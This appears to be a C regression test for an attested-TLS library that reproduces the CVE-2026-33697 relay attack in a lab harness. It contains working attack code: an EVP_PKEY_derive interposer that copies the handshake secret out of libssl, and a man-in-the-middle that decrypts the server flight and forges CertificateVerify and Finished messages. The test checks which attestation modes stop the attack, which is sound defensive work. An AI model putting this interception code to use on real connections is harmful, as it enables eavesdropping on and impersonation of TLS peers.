/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The relay of CVE-2026-33697 within one handshake. The attacker stands between
 * client and genuine server, and has the handshake's (EC)DHE secret and the
 * server's TLS key. He passes ClientHello and ServerHello on, takes the
 * Evidence out of the server's flight, and ends the handshake himself, with
 * traffic keys that the server does not have.
 *
 * Against attestation in the handshake alone he wins: its binder commits to
 * ClientHello..ServerHello and the key, no more. That is the limit of mode
 * intra, written down here so that nobody forgets it. Against Evidence that
 * binds the traffic keys (post, both) he does not.
 */
#include "test.h"

#include "forge.h"

#include <dlfcn.h>
#include <fcntl.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include <openssl/evp.h>
#include <openssl/ssl.h>

#include "base/rd.h"
#include "crypto/sig.h"

#define RECORD_MAX 16640 /* bytes */
#define SECRET 32        /* bytes; the suite is TLS_AES_128_GCM_SHA256 */
#define ROUNDS 40

/* ---- The leaked secret: libssl's own call passes through here ---- */

static uint8_t leaked[SECRET];

int
EVP_PKEY_derive(EVP_PKEY_CTX *ctx, unsigned char *key, size_t *n)
{
	int (*genuine)(EVP_PKEY_CTX *, unsigned char *, size_t *);
	void *symbol = dlsym(RTLD_NEXT, "EVP_PKEY_derive");
	int r;

	memcpy(&genuine, &symbol, sizeof(genuine));
	r = genuine(ctx, key, n);
	if (r == 1 && key != NULL && *n == sizeof(leaked))
		memcpy(leaked, key, sizeof(leaked));
	return r;
}

/* ---- TLS 1.3's key schedule (RFC 8446 s7.1) ---- */

static void
expand(const uint8_t *secret, const char *label, struct span context,
    uint8_t *ret, size_t n)
{
	assert_int_equal(hkdf_expand_label(HASH_SHA256, span_of(secret, SECRET),
			     "tls13 ", label, context, ret, n, NULL),
	    0);
}

static void
extract(const uint8_t *salt, const uint8_t *in, uint8_t *ret)
{
	struct span part = { in, SECRET };
	uint8_t out[HASH_MAX];

	assert_int_equal(
	    hmac_parts(HASH_SHA256, span_of(salt, SECRET), &part, 1, out, NULL),
	    0);
	memcpy(ret, out, SECRET);
}

static void
hash_of(struct span s, uint8_t *ret)
{
	uint8_t out[HASH_MAX];

	assert_int_equal(hash_one(HASH_SHA256, s, out, NULL), 0);
	memcpy(ret, out, SECRET);
}

static void
derive(const uint8_t *secret, const char *label, struct span messages,
    uint8_t *ret)
{
	uint8_t digest[SECRET];

	hash_of(messages, digest);
	expand(secret, label, span_of(digest, SECRET), ret, SECRET);
}

static void
next_stage(const uint8_t *secret, const uint8_t *in, uint8_t *ret)
{
	uint8_t derived[SECRET];

	derive(secret, "derived", span_of(NULL, 0), derived);
	extract(derived, in, ret);
}

/* One direction of one connection. */
struct traffic {
	uint8_t secret[SECRET], key[16], iv[12];
	uint64_t seq;
};

static void
traffic_init(struct traffic *t, const uint8_t *stage, const char *label,
    struct span messages)
{
	derive(stage, label, messages, t->secret);
	expand(t->secret, "key", span_of(NULL, 0), t->key, sizeof(t->key));
	expand(t->secret, "iv", span_of(NULL, 0), t->iv, sizeof(t->iv));
	t->seq = 0;
}

static void
finished_of(const struct traffic *t, struct span messages, uint8_t *ret)
{
	uint8_t key[SECRET], digest[SECRET];

	expand(t->secret, "finished", span_of(NULL, 0), key, SECRET);
	hash_of(messages, digest);
	extract(key, digest, ret);
}

/* ---- Records ---- */

static void
nonce_of(struct traffic *t, uint8_t nonce[12])
{
	memcpy(nonce, t->iv, 12);
	for (int i = 0; i < 8; i++)
		nonce[11 - i] ^= (uint8_t)(t->seq >> (8 * i));
	t->seq++;
}

/* The AEAD, either way; n bytes without the tag of 16. */
static bool
aead(struct traffic *t, bool lock, const uint8_t head[5], const uint8_t *in,
    size_t n, uint8_t *out, uint8_t tag[16])
{
	EVP_CIPHER_CTX *c = EVP_CIPHER_CTX_new();
	uint8_t nonce[12];
	int k = 0;
	bool ok;

	nonce_of(t, nonce);
	ok = EVP_CipherInit_ex(
		 c, EVP_aes_128_gcm(), NULL, t->key, nonce, lock) == 1 &&
	     EVP_CipherUpdate(c, NULL, &k, head, 5) == 1 &&
	     EVP_CipherUpdate(c, out, &k, in, (int)n) == 1;
	if (!lock)
		ok = ok && EVP_CIPHER_CTX_ctrl(
			       c, EVP_CTRL_AEAD_SET_TAG, 16, tag) == 1;
	ok = ok && EVP_CipherFinal_ex(c, out + k, &k) == 1;
	if (lock)
		ok = ok && EVP_CIPHER_CTX_ctrl(
			       c, EVP_CTRL_AEAD_GET_TAG, 16, tag) == 1;
	EVP_CIPHER_CTX_free(c);
	return ok;
}

struct record {
	uint8_t head[5], body[RECORD_MAX];
	size_t n;
};

/* The next whole record that has come; false: none. */
static bool
record_read(int fd, struct record *r)
{
	if (recv(fd, r->head, 5, MSG_PEEK | MSG_DONTWAIT) != 5)
		return false;
	r->n = (size_t)r->head[3] << 8 | r->head[4];
	assert_true(r->n <= sizeof(r->body));
	assert_int_equal(read(fd, r->head, 5), 5);
	assert_int_equal(recv(fd, r->body, r->n, MSG_WAITALL), (ssize_t)r->n);
	return true;
}

static void
record_pass(int fd, const struct record *r)
{
	assert_int_equal(write(fd, r->head, 5), 5);
	assert_int_equal(write(fd, r->body, r->n), (ssize_t)r->n);
}

/* The content of a protected record; its inner type in *type. */
static struct span
record_open(struct traffic *t, struct record *r, uint8_t *type)
{
	size_t n = r->n - 16;
	uint8_t out[RECORD_MAX];

	assert_true(
	    r->n > 16 && aead(t, false, r->head, r->body, n, out, r->body + n));
	while (n > 0 && out[n - 1] == 0)
		n--;
	assert_true(n > 0);
	*type = out[n - 1];
	memcpy(r->body, out, n - 1);
	return span_of(r->body, n - 1);
}

static void
record_seal(struct traffic *t, uint8_t type, struct span content, int fd)
{
	uint8_t inner[RECORD_MAX];
	struct record r;
	size_t n = content.n + 1;

	memcpy(inner, content.p, content.n);
	inner[content.n] = type;
	r.n = n + 16;
	r.head[0] = 23;
	r.head[1] = r.head[2] = 3;
	r.head[3] = (uint8_t)(r.n >> 8);
	r.head[4] = (uint8_t)r.n;
	assert_true(aead(t, true, r.head, inner, n, r.body, r.body + n));
	record_pass(fd, &r);
}

/* ---- The attacker ---- */

struct attacker {
	int client, server; /* his ends */
	uint8_t handshake[SECRET], master[SECRET];
	/* What each side takes for the handshake. */
	struct wr client_sees, server_sees;
	struct traffic client_hs, server_hs, server_hs_forged;
	struct privkey *key; /* stolen, or not the right one */
};

/* The other ends are those of the genuine sides. */
static int
meet(struct side *s, struct world *w, struct seal_ctx *ctx, enum seal_role role,
    const char *cert)
{
	int fds[2];

	assert_int_equal(socketpair(AF_UNIX, SOCK_STREAM, 0, fds), 0);
	assert_int_equal(fcntl(fds[0], F_SETFL, O_NONBLOCK), 0);
	s->fd = fds[0];
	s->ctx = ctx;
	s->stack = &end_openssl;
	s->stack->open(s, w, role, cert, 256);
	assert_int_equal(SSL_ctrl(s->ssl, SSL_CTRL_SET_GROUPS_LIST, 0,
			     (void *)(uintptr_t) "X25519"),
	    1);
	return fds[1];
}

static void
both_see(struct attacker *a, struct span message)
{
	wr_bytes(&a->client_sees, message);
	wr_bytes(&a->server_sees, message);
}

/* ClientHello and ServerHello pass as they are. */
static void
pass_hellos(struct attacker *a, struct pair *p)
{
	static const uint8_t zeros[SECRET];
	uint8_t early[SECRET];
	struct record r;

	side_step(&p->client);
	assert_true(record_read(a->client, &r));
	both_see(a, span_of(r.body, r.n));
	record_pass(a->server, &r);
	for (int i = 0; i < ROUNDS; i++)
		side_step(&p->server);
	assert_true(record_read(a->server, &r));
	assert_int_equal(r.body[0], 2);
	both_see(a, span_of(r.body, r.n));
	record_pass(a->client, &r);

	extract(zeros, zeros, early);
	next_stage(early, leaked, a->handshake);
	next_stage(a->handshake, zeros, a->master);
	traffic_init(&a->client_hs, a->handshake, "c hs traffic",
	    wr_view(&a->client_sees));
	traffic_init(&a->server_hs, a->handshake, "s hs traffic",
	    wr_view(&a->client_sees));
	a->server_hs_forged = a->server_hs;
}

/* All of the genuine server's flight, decrypted. */
static void
take_flight(struct attacker *a, struct wr *flight)
{
	struct record r;
	uint8_t type;

	while (record_read(a->server, &r)) {
		if (r.head[0] != 23) {
			record_pass(a->client, &r);
			continue;
		}
		wr_bytes(flight, record_open(&a->server_hs, &r, &type));
		assert_int_equal(type, 22);
	}
}

/* RFC 8446 s4.4.3, with the key that he has. */
static void
forge_verify(struct attacker *a, struct wr *out)
{
	static const char context[] = "TLS 1.3, server CertificateVerify";
	uint8_t tbs[64 + sizeof(context) + SECRET];
	size_t body, sig;

	memset(tbs, ' ', 64);
	memcpy(tbs + 64, context, sizeof(context)); /* and its zero */
	hash_of(wr_view(&a->client_sees), tbs + 64 + sizeof(context));
	wr_u8(out, 15);
	body = wr_vec_begin(out, 3);
	wr_u16(out, SIG_ECDSA_P256_SHA256);
	sig = wr_vec_begin(out, 2);
	assert_int_equal(privkey_sign(a->key, SIG_ECDSA_P256_SHA256,
			     span_of(tbs, sizeof(tbs)), out, NULL),
	    0);
	wr_vec_end(out, sig, 2);
	wr_vec_end(out, body, 3);
}

static void
forge_finished(
    const struct traffic *t, const struct wr *messages, struct wr *out)
{
	uint8_t mac[SECRET];

	finished_of(t, wr_view(messages), mac);
	wr_u8(out, 20);
	wr_vec(out, 3, span_of(mac, SECRET));
}

static void
forge_message(struct attacker *a, struct span message)
{
	wr_bytes(&a->client_sees, message);
	while (message.n > 0) {
		size_t n = message.n > 16000 ? 16000 : message.n;

		record_seal(
		    &a->server_hs_forged, 22, span_of(message.p, n), a->client);
		message = span_of(message.p + n, message.n - n);
	}
}

/* The flight again, Evidence and all, but for what proves who sends it. */
static void
forge_flight(struct attacker *a, const struct wr *flight)
{
	struct span all = wr_view(flight), body;
	struct rd in;
	struct wr out;

	rd_init(&in, all);
	while (rd_left(&in) > 0) {
		const uint8_t *at = in.p;
		uint8_t type = 0;

		assert_true(rd_u8(&in, &type) && rd_vec24(&in, &body));
		wr_bytes(&a->server_sees, span_of(at, 4 + body.n));
		wr_init_heap(&out, 65536);
		if (type == 15)
			forge_verify(a, &out);
		else if (type == 20)
			forge_finished(
			    &a->server_hs_forged, &a->client_sees, &out);
		else
			wr_bytes(&out, span_of(at, 4 + body.n));
		forge_message(a, wr_view(&out));
		wr_free(&out);
	}
}

/* Up to the client's Finished; he has the client's traffic keys then. */
static void
attack(struct attacker *a, struct pair *p)
{
	struct wr flight;

	wr_init_heap(&a->client_sees, 262144);
	wr_init_heap(&a->server_sees, 262144);
	wr_init_heap(&flight, 262144);
	pass_hellos(a, p);
	take_flight(a, &flight);
	forge_flight(a, &flight);
	wr_free(&flight);
	for (int i = 0; i < ROUNDS; i++)
		side_step(&p->client);
}

/* Ends the handshake with the genuine server too, as the client. */
static void
join_server(struct attacker *a)
{
	struct traffic t = a->client_hs;
	struct wr out;

	wr_init_heap(&out, 256);
	forge_finished(&t, &a->server_sees, &out);
	record_seal(&t, 22, wr_view(&out), a->server);
	wr_free(&out);
}

/* From the client: its Finished is dropped, what follows passes on. */
static void
pass_client(struct attacker *a, struct traffic *from, struct traffic *to)
{
	struct record r;
	struct span s;
	uint8_t type;

	while (record_read(a->client, &r)) {
		if (r.head[0] != 23)
			continue;
		if (a->client_hs.seq == 0) {
			record_open(&a->client_hs, &r, &type);
			continue;
		}
		s = record_open(from, &r, &type);
		record_seal(to, type, s, a->server);
	}
}

static void
pass_server(struct attacker *a, struct traffic *from, struct traffic *to)
{
	struct record r;
	struct span s;
	uint8_t type;

	while (record_read(a->server, &r)) {
		if (r.head[0] != 23)
			continue;
		s = record_open(from, &r, &type);
		record_seal(to, type, s, a->client);
	}
}

/* Two connections, one after the other's secrets, with him between them. */
static void
relay(struct attacker *a, struct pair *p)
{
	struct span of_client = wr_view(&a->client_sees);
	struct span of_server = wr_view(&a->server_sees);
	struct traffic cc, cs, sc, ss; /* client's c and s, server's */

	traffic_init(&cc, a->master, "c ap traffic", of_client);
	traffic_init(&cs, a->master, "s ap traffic", of_client);
	traffic_init(&sc, a->master, "c ap traffic", of_server);
	traffic_init(&ss, a->master, "s ap traffic", of_server);
	join_server(a);
	for (int i = 0; i < ROUNDS; i++) {
		pass_client(a, &cc, &sc);
		side_step(&p->server);
		pass_server(a, &ss, &cs);
		side_step(&p->client);
	}
}

/* ---- The cases ---- */

#define NO_ID "{\"mode\":\"none\"}"

struct scene {
	const char *name;
	const char *client, *server; /* configurations */
	const char *cert;            /* the server's; NULL: its attester's */
	const char *key;             /* what the attacker has */
};

static void
open_scene(
    struct attacker *a, struct pair *p, struct world *w, const struct scene *s)
{
	char path[128];

	world_policy(w, "transcript", w->server_pin, "00ff", NO_ID,
	    "\"min_binding\":\"transcript\",");
	world_policy(w, "traffic", w->server_pin, "00ff", NO_ID, "");
	*p = (struct pair){ .w = w };
	*a = (struct attacker){ .key = NULL };
	a->client =
	    meet(&p->client, w, world_ctx(w, s->client), SEAL_CLIENT, NULL);
	a->server =
	    meet(&p->server, w, world_ctx(w, s->server), SEAL_SERVER, s->cert);
	snprintf(path, sizeof(path), "%s/%s", w->dir, s->key);
	assert_int_equal(privkey_load(path, &a->key, NULL), 0);
}

static void
close_scene(struct attacker *a, struct pair *p)
{
	wr_free(&a->client_sees);
	wr_free(&a->server_sees);
	privkey_free(&a->key);
	pair_close(p);
	close(a->client);
	close(a->server);
}

#define INTRA_CLIENT "{\"mode\":\"intra\",\"policy\":\"transcript\"}"
#define INTRA_SERVER "{\"mode\":\"intra\"," FORGE_SOFT("server.signer") "}"

/* The limit: he is taken for the attested server, and reads and writes. */
static void
test_intra(void **state)
{
	static const struct scene scene = { "intra", INTRA_CLIENT, INTRA_SERVER,
		NULL, "server.signer" };
	struct world *w = *state;
	struct attacker a;
	struct traffic t;
	struct pair p;
	char buf[16];
	size_t n = 0;

	open_scene(&a, &p, w, &scene);
	attack(&a, &p);
	if (seal_conn_outcome(p.client.conn) != SEAL_ACCEPTED)
		fail_msg("%s", seal_conn_diag(p.client.conn)->text);
	assert_int_equal(seal_verdict_level(seal_conn_verdict(p.client.conn)),
	    SEAL_LEVEL_TRANSCRIPT);
	assert_int_not_equal(seal_conn_outcome(p.server.conn), SEAL_ACCEPTED);
	traffic_init(&t, a.master, "s ap traffic", wr_view(&a.client_sees));
	record_seal(&t, 23, span_str("not attested"), a.client);
	assert_int_equal(
	    seal_read(p.client.conn, buf, sizeof(buf), &n), SEAL_READY);
	assert_int_equal(n, 12);
	assert_memory_equal(buf, "not attested", 12);
	close_scene(&a, &p);
}

/* With the handshake's secret alone he gets nowhere: TLS itself stops him. */
static void
test_without_key(void **state)
{
	static const struct scene scene = { "without the key", INTRA_CLIENT,
		INTRA_SERVER, NULL, "client.signer" };
	struct world *w = *state;
	struct attacker a;
	struct pair p;

	open_scene(&a, &p, w, &scene);
	attack(&a, &p);
	assert_int_not_equal(seal_conn_outcome(p.client.conn), SEAL_ACCEPTED);
	close_scene(&a, &p);
}

/* Evidence over the traffic keys of the other connection proves nothing. */
static void
test_traffic(void **state)
{
	static const struct scene scenes[] = {
		{ "both", "{\"mode\":\"both\",\"policy\":\"traffic\"}",
		    "{\"mode\":\"both\"," FORGE_SOFT("server.signer") "}", NULL,
		    "server.signer" },
		{ "post", "{\"policy\":\"traffic\"}",
		    "{" FORGE_SOFT("server.signer") "}", "server",
		    "server.key" },
	};
	struct world *w = *state;

	for (size_t i = 0; i < sizeof(scenes) / sizeof(scenes[0]); i++) {
		struct attacker a;
		struct pair p;

		open_scene(&a, &p, w, &scenes[i]);
		attack(&a, &p);
		relay(&a, &p);
		if (seal_conn_outcome(p.client.conn) != SEAL_REFUSED_KEY)
			fail_msg("%s: %s (%s)", scenes[i].name,
			    seal_outcome_name(seal_conn_outcome(p.client.conn)),
			    seal_conn_diag(p.client.conn)->text);
		assert_int_equal(
		    seal_conn_diag(p.client.conn)->code, SEAL_E_EA_SIGNATURE);
		close_scene(&a, &p);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(
		    test_intra, world_setup, world_teardown),
		cmocka_unit_test_setup_teardown(
		    test_without_key, world_setup, world_teardown),
		cmocka_unit_test_setup_teardown(
		    test_traffic, world_setup, world_teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
